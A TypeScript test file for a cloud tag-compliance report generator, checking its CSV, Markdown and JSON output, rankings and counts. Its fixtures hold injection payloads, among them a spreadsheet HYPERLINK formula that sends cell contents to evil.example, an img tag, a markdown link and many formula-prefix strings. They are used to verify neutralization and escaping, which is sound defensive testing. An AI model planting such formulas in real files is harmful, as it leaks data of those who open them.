import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Coverage } from '../../inventory/coverage.ts';
import { compilePolicy } from '../../policy/compile-policy.ts';
import { readPolicy } from '../../policy/read-policy.ts';
import { inventory, POLICY_TEXT, resourceOf } from '../arbitraries.fixture.ts';
import { evaluate } from '../evaluate.ts';
import { recommend } from '../next-steps/recommendations.ts';
import { CSV_TABLES, neutralize, reportAsCsv } from './csv.ts';
import { reportAsJson } from './json.ts';
import { escapeMarkdown, reportAsMarkdown } from './markdown.ts';
import { buildReport, type Report, reportSchema } from './report.ts';

function compiledFrom(text: string) {
  const reading = readPolicy(text, 'policy.yaml');
  if ('problems' in reading) throw new Error(reading.message);
  return compilePolicy(reading.policy);
}

const policy = compiledFrom(POLICY_TEXT);
const coverage: Coverage = {
  entries: [
    { account: '1', region: 'eu-west-1', types: ['*'], status: 'complete', resources: 3 },
    {
      account: '1',
      region: 'us-east-1',
      types: ['ec2:volume'],
      status: 'missing',
      reason: 'access_denied',
      detail: 'ec2:DescribeVolumes',
      resources: 0,
    },
  ],
  isComplete: false,
};

type Resources = Parameters<typeof evaluate>[0] extends Iterable<infer R> ? R[] : never;

function reportOn(list: Resources, parts: { costs?: Map<string, string>; list?: number; isSample?: boolean } = {}): Report {
  const { costs, isSample = false } = parts;
  const evaluation = evaluate(list, policy, costs && { costs });
  return buildReport({
    evaluation,
    coverage,
    asOf: '2026-03-01T00:00:00Z',
    now: new Date('2026-03-01T01:00:00Z'),
    policyVersion: policy.version,
    isSample,
    scope: 'types=* regions=* accounts=* severity=all',
    ...(costs && { costs: { byArn: costs, currency: 'USD' } }),
    recommendations: recommend({ resources: list, evaluation, policy, ...(costs && { costs }) }),
    ...(parts.list !== undefined && { list: parts.list }),
  });
}

/** Reads RFC 4180 as strictly as it is written: cells quoted or empty, quotes doubled, CRLF behind every line. */
function readCsv(text: string): Record<string, string>[] {
  const cell = /(?:"((?:[^"]|"")*)")?(,|\r\n)/y;
  const rows: string[][] = [[]];
  while (cell.lastIndex < text.length) {
    const match = cell.exec(text);
    if (match === null) throw new Error('This is not CSV as RFC 4180 wants it.');
    rows.at(-1)?.push((match[1] ?? '').replaceAll('""', '"'));
    if (match[2] !== ',' && cell.lastIndex < text.length) rows.push([]);
  }
  const [head = [], ...body] = rows;
  for (const row of body) expect(row).toHaveLength(head.length);
  return body.map((row) => Object.fromEntries(head.map((name, index) => [name, row[index] ?? ''])));
}

const EVIL = '=HYPERLINK("http://evil.example/?"&A1)|<img src=x>\n| [click](http://evil.example)';
const evil = [
  resourceOf({ arn: 'arn:aws:s3:::x', tags: { Environment: EVIL, Owner: 'jane', CostCenter: 'CC-1000', 'tempo"': '@SUM(1)' } }),
];

describe('a report', () => {
  it('states its time, policy, scope, coverage and whether it is sample data', () => {
    const report = reportOn(evil, { isSample: true });
    expect(reportSchema.parse(report)).toEqual(report);
    for (const text of [reportAsMarkdown(report), reportAsCsv(report, 'csv_summary'), reportAsJson(report)]) {
      expect(text).toContain('2026-03-01T00:00:00Z');
      expect(text).toContain(policy.version);
      expect(text.toLowerCase()).toMatch(/sample/);
      expect(text).toContain('Not everything that was requested was seen');
      expect(text).toContain('ec2:DescribeVolumes');
    }
    const [row] = readCsv(reportAsCsv(report));
    expect(row).toMatchObject({ as_of: '2026-03-01T00:00:00Z', sample_data: 'true' });
    expect(reportAsMarkdown(reportOn(evil))).not.toContain('Sample');
  });

  it('ranks by count and by cost', () => {
    const list = [
      resourceOf({ arn: 'a', type: 'rds:db', tags: {} }),
      resourceOf({ arn: 'b', type: 'rds:db', tags: {} }),
      resourceOf({ arn: 'c', type: 'rds:db', tags: { CostCenter: 'CC-1', tempo: 'x' } }),
      resourceOf({ arn: 'd', type: 'rds:db', tags: { CostCenter: 'CC-1' } }),
    ];
    const report = reportOn(list, { costs: new Map([['c', '9.99']]) });
    expect(report.by_count.map(({ kind, violations }) => [kind, violations])).toEqual([
      ['invalid_format', 2],
      ['missing_required_tag', 2],
      ['prohibited_key', 1],
    ]);
    expect(report.by_cost?.map(({ kind, monthly_cost }) => [kind, monthly_cost])).toEqual([
      ['invalid_format', '9.99'],
      ['prohibited_key', '9.99'],
      ['missing_required_tag', undefined],
    ]);
    expect(reportOn(list).by_cost).toBeUndefined();
  });

  it('lists violations up to its limit and counts the others', () => {
    const report = reportOn([resourceOf({}), resourceOf({})], { list: 1 });
    expect([report.violations.length, report.left_out, report.summary.violations]).toEqual([1, 5, 6]);
    expect(reportAsMarkdown(report)).toContain('And 5 more, which are not listed here.');
  });

  it('lists errors first, and the most expensive of them first', () => {
    const wrong = { CostCenter: 'CC-1000', Environment: 'live', Owner: 'x' };
    const list = [
      resourceOf({ arn: 'warned', tags: wrong }),
      resourceOf({ arn: 'unknown', type: 'rds:db', tags: {} }),
      resourceOf({ arn: 'cheap', type: 'rds:db', tags: {} }),
      resourceOf({ arn: 'dear', type: 'rds:db', tags: {} }),
    ];
    const costs = new Map([
      ['warned', '1000'],
      ['cheap', '0'],
      ['dear', '12.5'],
    ]);
    expect(reportOn(list, { costs }).violations.map(({ arn }) => arn)).toEqual(['dear', 'cheap', 'unknown', 'warned']);
    expect(reportOn(list).violations.map(({ arn }) => arn)).toEqual(['unknown', 'cheap', 'dear', 'warned']);
  });

  it('contains the counts of the scan in every format', () => {
    fc.assert(
      fc.property(inventory, fc.nat(40), ({ list, costs }, limit) => {
        const report = reportOn(list, { costs, list: limit });
        const { summary } = evaluate(list, policy, { costs });
        expect(report.summary).toEqual(summary);
        expect(report.violations.length + report.left_out).toBe(summary.violations);
        for (const ranking of [report.by_count, report.by_cost ?? report.by_count]) {
          expect(ranking.reduce((sum, { violations }) => sum + violations, 0)).toBe(summary.violations);
        }
        expect(JSON.parse(reportAsJson(report))).toEqual(report);
        expect(readCsv(reportAsCsv(report))).toHaveLength(report.violations.length);
        expect(readCsv(reportAsCsv(report, 'csv_ranking'))).toHaveLength(report.by_count.length);
        expect(readCsv(reportAsCsv(report, 'csv_next_steps'))).toHaveLength(report.recommendations.length);
        const facts = readCsv(reportAsCsv(report, 'csv_summary'));
        const fact = (name: string) => facts.find((row) => row.name === name)?.value;
        expect([fact('violations'), fact('compliant'), fact('non_compliant'), fact('in_scope')]).toEqual(
          [summary.violations, summary.compliant, summary.non_compliant, summary.in_scope].map(String),
        );
        expect(reportAsMarkdown(report)).toContain(
          `| Violations | ${summary.violations} (${summary.errors} errors, ${summary.warnings} warnings) |`,
        );
      }),
    );
  });
});

describe('CSV', () => {
  it.each(CSV_TABLES)('is one table without rows of another kind: %s', (table) => {
    const [head = '', ...lines] = reportAsCsv(reportOn([resourceOf({}), ...evil]), table).split('\r\n');
    expect(head).toMatch(/^("[a-z_]+",)+"[a-z_]+"$/);
    expect(head).not.toContain('section');
    expect(lines.length).toBeGreaterThan(1);
  });

  it.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    '\rx',
    ' =1',
    '\u00a0=1',
    '\u200b@x',
    '\ufeff+1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '\n=1',
  ])('makes %j harmless', (cell) => {
    expect(neutralize(cell)).toBe(`'${cell}`);
  });

  it.each(['prod', '-5', '-5.25', '12', 'a=b', '', "'=1", '2026-01-01'])('leaves %j as it is', (cell) => {
    expect(neutralize(cell)).toBe(cell);
  });

  it('neutralizes formulas in text from tags', () => {
    const rows = readCsv(reportAsCsv(reportOn(evil)));
    expect(rows).toContainEqual(expect.objectContaining({ tag: 'Environment', current_value: `'${EVIL}` }));
    expect(rows).toContainEqual(expect.objectContaining({ kind: 'prohibited_key', found: 'tempo"', current_value: "'@SUM(1)" }));
  });
});

describe('Markdown', () => {
  it('neutralizes formulas in text from tags, in one cell', () => {
    const text = reportAsMarkdown(reportOn(evil));
    expect(text).not.toContain('<img');
    const row = text.split('\n').find((line) => line.includes('HYPERLINK') && line.startsWith('|')) ?? '';
    expect(row.replaceAll('\\|', '').split('|')).toHaveLength(7);
    expect(row).toContain('\\[click\\](http');
  });

  it('escapes everything that could be markup', () => {
    expect(escapeMarkdown('a|b\r\n`c` *d* _e_ <b>&amp; ![x](y) \\')).toBe(
      'a\\|b \\`c\\` \\*d\\* \\_e\\_ &lt;b&gt;&amp;amp; \\!\\[x\\](y) \\\\',
    );
  });

  it('lists every violation of the report with readable amounts and the first of many allowed values', () => {
    const values = Array.from({ length: 30 }, (_, index) => `value-${index}`);
    const many = compiledFrom(`required_tags: [{ name: Kind, allowed_values: [${values}] }]`);
    const list = Array.from({ length: 70 }, (_, index) => resourceOf({ arn: `arn-${index}-`, tags: {} }));
    const costs = new Map(list.map(({ arn }) => [arn, '1234.56789']));
    const evaluation = evaluate(list, many, { costs });
    const text = reportAsMarkdown(
      buildReport({
        ...{ evaluation, coverage, asOf: '2026-03-01T00:00:00Z', now: new Date(), policyVersion: '1', isSample: false, scope: 'all' },
        costs: { byArn: costs, currency: 'USD' },
        recommendations: recommend({ resources: list, evaluation, policy: many, costs }),
      }),
    );
    for (const { arn } of list) expect(text).toContain(`| ${arn} |`);
    expect(text).toContain('| $86,419.75 |');
    expect(text).toContain('They cost $86,419.75 a month.');
    expect(text).toContain('| value-0, value-1, value-2, value-3, value-4 or another of the 30 allowed values |');
    expect(text).not.toContain('more, which are not listed here');
  });

  it('has no cost column when no cost is known', () => {
    expect(reportAsMarkdown(reportOn(evil))).not.toContain('Monthly cost');
  });

  it('states the score with its counts, and 100.0 % only when everything is compliant', () => {
    const right = { CostCenter: 'CC-1000', Environment: 'staging', Owner: 'x' };
    const list = [...Array.from({ length: 9999 }, () => resourceOf({ tags: right })), resourceOf({ tags: {} })];
    expect(reportAsMarkdown(reportOn(list))).toContain('| Score (compliant of those in scope) | > 99.9 % (9999 of 10000) |');
  });
});
